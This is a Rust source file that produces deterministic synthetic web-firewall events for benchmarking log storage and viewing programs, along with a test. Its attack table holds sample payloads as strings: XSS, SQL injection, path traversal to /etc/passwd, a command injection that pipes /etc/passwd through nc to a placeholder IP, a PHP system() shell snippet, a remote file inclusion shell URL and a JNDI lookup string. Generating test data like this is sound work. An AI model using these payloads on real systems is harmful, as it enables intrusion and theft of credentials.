//! Synthetic events like those of a busy gate, for benchmarks of programs that store and show events.
//!
//! The same number always gives the same event. Sites, clients, paths, rules, texts and responses vary as in practice: a few are
//! frequent, most are rare, and a scan is some thousand consecutive requests.

use event::{
    Actor, Event, Header, IdSource, MatchedRule, Outcome, RequestEvidence, Response, Scores, Severity,
    Timestamp,
};

/// A text that occurs only in one event of [`NEEDLE_EVERY`].
pub const NEEDLE: &str = "jndi:ldap://needle-";
/// Interval between the events with [`NEEDLE`].
pub const NEEDLE_EVERY: u64 = 100_000;
/// Number of events in one scan.
const SCAN: u64 = 4000;
/// Number of events from the start of one scan to the start of the next.
const SCAN_EVERY: u64 = 20_000;
/// The sites, the busiest first.
pub const SITES: [&str; 8] = ["shop", "blog", "wiki", "mail", "api", "forum", "files", "intranet"];

/// Attacks: tag, first rule id, message, payload.
const ATTACKS: [(&str, u64, &str, &str); 8] = [
    (
        "attack-xss",
        941_100,
        "XSS Attack Detected via libinjection",
        "\"><script>alert(document.cookie)</script>",
    ),
    (
        "attack-sqli",
        942_100,
        "SQL Injection Attack Detected via libinjection",
        "1' UNION SELECT password FROM users--",
    ),
    ("attack-lfi", 930_100, "Path Traversal Attack (/../) or (/.../)", "../../../../etc/passwd"),
    (
        "attack-rce",
        932_100,
        "Remote Command Execution: Unix Command Injection",
        ";cat /etc/passwd|nc 192.0.2.9 80",
    ),
    ("attack-injection-php", 933_100, "PHP Injection Attack: PHP Open Tag Found", "<?php system($_GET[c]);"),
    ("attack-protocol", 920_270, "Invalid character in request (null character)", "%00"),
    ("attack-rfi", 931_100, "Possible Remote File Inclusion (RFI) Attack", "http://198.51.100.7/shell.txt"),
    ("attack-reputation-scanner", 913_100, "Found User-Agent associated with security scanner", "sqlmap/1.8"),
];

/// Words of paths and parameters.
const WORDS: [&str; 24] = [
    "item",
    "basket",
    "search",
    "login",
    "admin",
    "image",
    "style",
    "user",
    "order",
    "page",
    "list",
    "news",
    "post",
    "comment",
    "tag",
    "upload",
    "api",
    "v1",
    "static",
    "index",
    "help",
    "about",
    "wp-content",
    "report",
];

/// A generator of events.
#[derive(Debug)]
pub struct Synthetic {
    ids: IdSource,
    start: i64,
    span: i64,
    count: u64,
}

impl Synthetic {
    /// Makes a generator of `count` events, spread over the days before `end`.
    pub fn new(count: u64, days: u32, end: Timestamp) -> Self {
        let span = i64::from(days) * 86_400_000_000;
        Self { ids: IdSource::new("bench", 7), start: end.as_micros() - span, span, count: count.max(1) }
    }

    /// Returns the time of event number `number`.
    pub fn time(&self, number: u64) -> Timestamp {
        let part = i128::from(number) * i128::from(self.span) / i128::from(self.count);
        Timestamp::from_micros(self.start + i64::try_from(part).unwrap_or(0))
    }

    /// Returns event number `number`, from 0.
    pub fn event(&self, number: u64) -> Event {
        let mut random = Random(number);
        let time = self.time(number);
        let scan = (number % SCAN_EVERY < SCAN).then_some(number / SCAN_EVERY);
        let site = SITES[random.skewed(SITES.len())];
        let action = match random.below(100) {
            0..70 => Outcome::Blocked,
            70..82 => Outcome::Detected,
            82..97 => Outcome::Passed,
            97..99 => Outcome::Refused,
            _ => Outcome::Failed,
        };
        let address = match scan {
            Some(scan) => 0xc633_0000 + low(scan % 65_536),
            None if random.below(4) == 0 => 0xcb00_7100 + low(random.skewed(50) as u64),
            None => 0x0100_0000 + low(random.skewed(400_000) as u64),
        };
        let (status, attacks) = match action {
            Outcome::Blocked => (403, 1 + random.below(3)),
            Outcome::Detected => (random.pick(&[200, 200, 302, 404]), 1 + random.below(2)),
            Outcome::Passed => (random.pick(&[200, 200, 304, 404, 500]), random.below(2)),
            Outcome::Refused => (400, 0),
            _ => (502, 0),
        };
        let attack = match scan {
            Some(scan) if scan % 3 == 0 => ATTACKS.len() - 1,
            _ => random.skewed(ATTACKS.len() - 1),
        };
        let (tag, first_rule, message, payload) = ATTACKS[attack];
        let path = match scan {
            Some(_) => format!("/{}/{:08x}.php", random.pick(&WORDS), random.below(1 << 32)),
            None => {
                let word = |random: &mut Random| WORDS[random.skewed(24)];
                format!("/{}/{}/{}", word(&mut random), word(&mut random), random.skewed(40))
            }
        };
        let parameter = random.pick(&WORDS);
        let value = match number % NEEDLE_EVERY {
            4711 => format!("{NEEDLE}{number}/a"),
            _ => format!("{payload}{:06x}", random.below(1 << 24)),
        };
        let mut rules: Vec<MatchedRule> = (0..attacks)
            .map(|_| {
                let id = first_rule + 10 * random.skewed(20) as u64;
                rule(id, message, tag, &format!("ARGS:{parameter}"), &value)
            })
            .collect();
        if action == Outcome::Blocked || action == Outcome::Detected {
            let total = format!("Inbound Anomaly Score Exceeded (Total Score: {})", 5 * attacks);
            rules.push(rule(
                949_110,
                &total,
                "attack-generic",
                "TX:ANOMALY_SCORE",
                &(5 * attacks).to_string(),
            ));
        }
        let method = random.pick(&["GET", "GET", "GET", "POST", "HEAD"]);
        let evidence = RequestEvidence {
            line: format!("{method} {path}?{parameter}={value} HTTP/1.1").into(),
            headers: vec![
                Header::new("Host", format!("{site}.example")),
                Header::new(
                    "User-Agent",
                    format!(
                        "Mozilla/5.0 (X11; Linux x86_64; rv:{0}.0) Gecko/20100101 Firefox/{0}.0",
                        100 + random.below(40)
                    ),
                ),
                Header::new("Cookie", format!("sid={:016x}", random.next())),
            ],
            response: Some(Response { status, ..Response::default() }),
            rules,
            scores: Scores { inbound: 5 * attacks.cast_signed(), ..Scores::default() },
            ..RequestEvidence::default()
        };
        Event {
            subject: Some(site.to_owned()),
            severity: if attacks > 0 { Severity::Critical } else { Severity::Notice },
            actor: Some(Actor::at(address.to_be_bytes().into(), Some(40_000))),
            ..Event::of_request(self.ids.next(time), time, "bench", action, evidence)
        }
    }
}

fn rule(id: u64, message: &str, tag: &str, variable: &str, value: &str) -> MatchedRule {
    MatchedRule {
        id,
        phase: 2,
        message: message.into(),
        data: format!("Matched Data: found within {variable}: {value}").into(),
        severity: Some(Severity::Critical),
        tags: ["application-multi", tag, "paranoia-level/1", "OWASP_CRS"].map(String::from).to_vec().into(),
        file: format!("/usr/share/modsecurity-crs/rules/REQUEST-{}.conf", id / 1000),
        line: (id % 1000) as u32,
        operator: "rx".into(),
        variable: variable.into(),
        value: value.into(),
        ..MatchedRule::default()
    }
}

fn low(number: u64) -> u32 {
    u32::try_from(number).expect("a number below 2^32")
}

/// A SplitMix64 generator.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ mixed >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ mixed >> 31
    }

    fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[usize::try_from(self.below(from.len() as u64)).expect("an index")]
    }

    /// Returns a number below `end`; low numbers are much more frequent.
    #[expect(
        clippy::cast_precision_loss,
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "a fraction of a small number"
    )]
    fn skewed(&mut self, end: usize) -> usize {
        let part = self.below(1 << 20) as f64 / (1 << 20) as f64;
        ((part * part * part) * end as f64) as usize
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn events_vary_and_are_the_same_each_time() {
        let now = Timestamp::from_micros(1_795_424_686_000_000);
        let synthetic = Synthetic::new(50_000, 10, now);
        let events: Vec<Event> = (0..50_000).step_by(7).map(|number| synthetic.event(number)).collect();
        let different = |of: &dyn Fn(&Event) -> String| events.iter().map(of).collect::<HashSet<_>>().len();
        assert_eq!(different(&|event| event.id.to_string()), events.len());
        assert_eq!(different(&|event| event.subject.clone().unwrap()), SITES.len());
        assert_eq!(different(&|event| event.outcome.to_string()), 5);
        assert!(different(&|event| event.address().unwrap().to_string()) > 2000);
        assert!(different(&|event| format!("{:?}", event.request().unwrap().path())) > 3000);
        assert!(events.iter().all(|event| event.time < now && event.time >= synthetic.time(0)));
        assert!(synthetic.event(4711).to_json().contains(NEEDLE));
        let again = Synthetic::new(50_000, 10, now);
        assert_eq!(again.event(7).evidence, events[1].evidence);
    }
}
